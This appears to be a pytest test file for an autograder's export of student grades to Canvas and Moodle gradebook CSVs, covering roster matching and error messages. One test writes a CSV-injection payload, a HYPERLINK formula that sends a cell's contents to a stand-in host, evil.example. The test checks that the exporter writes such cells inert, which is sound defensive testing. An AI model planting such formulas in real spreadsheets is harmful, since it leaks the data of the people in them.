"""`course export --format canvas|moodle --roster FILE`: the columns each platform's import documents, every roster
student written (an empty cell where nothing was handed in), every submission without a roster row reported."""

import csv

import pytest
from conftest import copy_course, course_in_process

from autograders import lms, results
from autograders.results import CellResult, Result

# A Canvas gradebook export, as Canvas writes it: the Points Possible row, a test student, read-only columns.
CANVAS_ROSTER = """Student,ID,SIS User ID,SIS Login ID,Section,ex01 (104211),Current Score
    Points Possible,,,,,10.00,(read only)
"Smith, Alice",5001,S001,alice,Section A,,
"Brown, Bob",5002,S002,bbrown,Section A,,
"Lee, Carol",5003,S003,clee,Section B,,
"Nguyen, Ivan",5009,S009,inguyen,Section B,,
"Student, Test",9999,,,Section A,,
"""
# A Moodle participants export.
MOODLE_ROSTER = """"First name","Last name","ID number","Email address",Groups
Alice,Smith,S001,alice@uni.example,A
Bob,Brown,S002,bob.brown@uni.example,A
Carol,Lee,S003,clee@uni.example,B
Ivan,Nguyen,S009,ivan@uni.example,B
"""
SCORES = {"ex01": {"alice": 10.0, "bob.brown": 3.0, "carol_lee": 6.0, "zed": 4.0}, "ex06": {"alice": 9.0, "clee": 5.0}}


@pytest.fixture
def course(tmp_path):
    root = copy_course(tmp_path / "course")
    for exercise, scores in SCORES.items():
        for student, score in scores.items():
            cells = {"test": CellResult(score, 10.0)}
            results.write(root / "coursework" / "results" / exercise / f"{student}.json",
                          Result(student, score, 10.0, "", cells))
    (root / "canvas.csv").write_text(CANVAS_ROSTER)
    (root / "moodle.csv").write_text(MOODLE_ROSTER)
    return root


def export(course, *options):
    return course_in_process(["export", *options], course)


def rows_of(path):
    with path.open(newline="") as f:
        return list(csv.reader(f))


def test_canvas_gets_its_columns_the_points_possible_row_and_every_roster_student(course):
    done = export(course, "--format", "canvas", "--roster", "canvas.csv")
    assert done.returncode == 0, done.stderr
    header, points, *rows = rows_of(course / "coursework" / "grades-canvas.csv")
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "ex01 (104211)", "ex06"]
    assert points == ["Points Possible", "", "", "", "", "10", "10"]
    assert rows == [
        ["Smith, Alice", "5001", "S001", "alice", "Section A", "10", "9"],  # by SIS Login ID
        ["Brown, Bob", "5002", "S002", "bbrown", "Section A", "3", ""],  # by name: bob.brown
        ["Lee, Carol", "5003", "S003", "clee", "Section B", "6", "5"],  # by name (carol_lee) and by login (clee)
        ["Nguyen, Ivan", "5009", "S009", "inguyen", "Section B", "", ""],  # handed in nothing: empty cells
    ]
    assert "NOT WRITTEN (no roster row): zed" in done.stdout
    assert "4 roster students (3 with a submission, 1 with empty cells), 2 exercises" in done.stdout


def test_moodle_gets_its_columns_keyed_by_email_and_username(course):
    done = export(course, "--format", "moodle", "--roster", "moodle.csv")
    assert done.returncode == 0, done.stderr
    header, *rows = rows_of(course / "coursework" / "grades-moodle.csv")
    assert header == ["First name", "Last name", "ID number", "Email address", "Username", "ex01", "ex06"]
    assert rows == [
        ["Alice", "Smith", "S001", "alice@uni.example", "", "10", "9"],  # by the email's local part
        ["Bob", "Brown", "S002", "bob.brown@uni.example", "", "3", ""],
        ["Carol", "Lee", "S003", "clee@uni.example", "", "6", "5"],
        ["Ivan", "Nguyen", "S009", "ivan@uni.example", "", "", ""],
    ]
    assert "map \"Email address\" to useremail" in done.stdout and "NOT WRITTEN (no roster row): zed" in done.stdout


def test_a_canvas_roster_exported_from_canvas_serves_moodle_too_and_the_reverse(course):
    assert export(course, "--format", "moodle", "--roster", "canvas.csv", "--to", "m.csv").returncode == 0
    header, *rows = rows_of(course / "m.csv")
    assert rows[0] == ["Alice", "Smith", "S001", "", "alice", "10", "9"]
    assert export(course, "--format", "canvas", "--roster", "moodle.csv", "--to", "c.csv").returncode == 0
    assert rows_of(course / "c.csv")[2][:2] == ["Alice Smith", ""]


def test_without_a_roster_the_submission_names_stand_in(course):
    done = export(course, "--format", "canvas")
    header, points, *rows = rows_of(course / "coursework" / "grades-canvas.csv")
    assert header[5:] == ["ex01", "ex06"] and [r[0] for r in rows] == sorted({s for v in SCORES.values() for s in v})
    assert "without --roster" in done.stdout


def test_a_name_that_fits_two_rows_goes_to_neither_and_is_said():
    roster = lms.Roster([lms.Student({"Student": "Kim, Lee"}, [(2, "lee_kim")]),
                         lms.Student({"Student": "Lee, Kim"}, [(2, "lee_kim")])], {})
    matched = lms.match(roster, ["lee_kim"])
    assert [names for _, names in matched.rows] == [[], []]
    assert matched.ambiguous == ["lee_kim: fits 2 roster rows (Kim, Lee, Lee, Kim)"] and matched.unmatched == []


def test_two_submissions_of_one_exercise_leave_its_cell_empty_and_are_said():
    roster = lms.Roster([lms.Student({"SIS Login ID": "clee", "Student": "Lee, Carol"}, [(0, "clee"), (2, "carol_lee")])], {})
    matched = lms.match(roster, ["carol_lee", "clee"])
    assert matched.rows[0][1] == ["carol_lee", "clee"]
    scores, conflicts = matched.scores({"clee": {"ex01": 3.0, "ex02": 5.0}, "carol_lee": {"ex01": 4.0}}, ["ex01", "ex02"])
    assert scores == [{"ex02": 5.0}] and conflicts == ["Lee, Carol: ex01 handed in as carol_lee and clee"]


def test_the_surest_key_wins_a_login_over_a_name():
    rows = [lms.Student({"Student": "Amy"}, [(2, "amy")]), lms.Student({"SIS Login ID": "amy"}, [(0, "amy")])]
    matched = lms.match(lms.Roster(rows, {}), ["amy"])
    assert [names for _, names in matched.rows] == [[], ["amy"]] and matched.unmatched == []


@pytest.mark.parametrize("options, words", [
    (["--format", "canvas", "--roster", "missing.csv"], "no roster at missing.csv: export it from the learning platform"),
    (["--roster", "canvas.csv"], "--roster maps the platform's students to submissions: use it with --format canvas"),
])
def test_a_missing_roster_is_one_line_exit_2_and_nothing_written(course, options, words):
    done = export(course, *options)
    assert done.returncode == 2 and words in done.stderr and len(done.stderr.strip().splitlines()) == 1
    assert not list((course / "coursework").glob("grades*.csv"))


def test_a_file_that_is_no_roster_is_refused(course):
    (course / "notes.csv").write_text("colour,size\nred,3\n")
    done = export(course, "--format", "moodle", "--roster", "notes.csv")
    assert done.returncode == 2 and "none of the columns that name a student" in done.stderr


def test_no_results_yet_is_one_line_exit_2(tmp_path):
    done = export(copy_course(tmp_path / "empty"), "--format", "canvas")
    assert done.returncode == 2 and "no results yet: grade the class first" in done.stderr


@pytest.mark.parametrize("form", ["moodle", "canvas"])
def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_inert(course, form):
    """A roster's names are the students' own words, and a submission's name its file name: a cell that starts
    with = + - @ would be a live formula in Excel, so it is written with a leading apostrophe."""
    (course / "evil.csv").write_text('First name,Last name,ID number,Email address\n'
                                     '"=HYPERLINK(""http://evil.example/?""&F3,""Bob"")",@SUM(1),S002,bob.brown@uni.example\n')
    results.write(course / "coursework" / "results" / "ex01" / "-A1-B1.json",
                  Result("-A1-B1", 1.0, 10.0, "", {"test": CellResult(1.0, 10.0)}))
    assert export(course, "--format", form, "--roster", "evil.csv", "--to", "with.csv").returncode == 0
    assert export(course, "--format", form, "--to", "without.csv").returncode == 0
    cells = [c for name in ("with.csv", "without.csv") for row in rows_of(course / name) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert any(c.startswith("'=HYPERLINK(") for c in cells) and "'-A1-B1" in cells


def test_an_email_like_login_matches_the_names_a_file_can_have(tmp_path):
    (tmp_path / "roster.csv").write_text("Student,ID,SIS User ID,SIS Login ID,Section\n"
                                         '"Smith, Alice",5001,S001,alice@uni.example,A\n"Brown, Bob",5002,S002,B.Brown,A\n')
    matched = lms.match(lms.read_roster(tmp_path / "roster.csv"), ["alice", "alice_uni.example", "b.brown"])
    assert matched.rows[0][1] == ["alice", "alice_uni.example"] and matched.rows[1][1] == ["b.brown"]
    assert matched.unmatched == []


def test_the_platforms_own_download_names_find_their_roster_rows(course):
    """collect names a Canvas download (smithalice_5001_7_ex01.ipynb) smithalice and a Moodle one (Carol
    Lee_12_assignsubmission_file_) Carol_Lee: both reach their rows by name."""
    canvas = lms.match(lms.read_roster(course / "canvas.csv"), ["smithalice", "leecarol"])
    moodle = lms.match(lms.read_roster(course / "moodle.csv"), ["Alice_Smith", "Carol_Lee"])
    assert [names for _, names in canvas.rows][:3] == [["smithalice"], [], ["leecarol"]]
    assert [names for _, names in moodle.rows][:3] == [["Alice_Smith"], [], ["Carol_Lee"]]
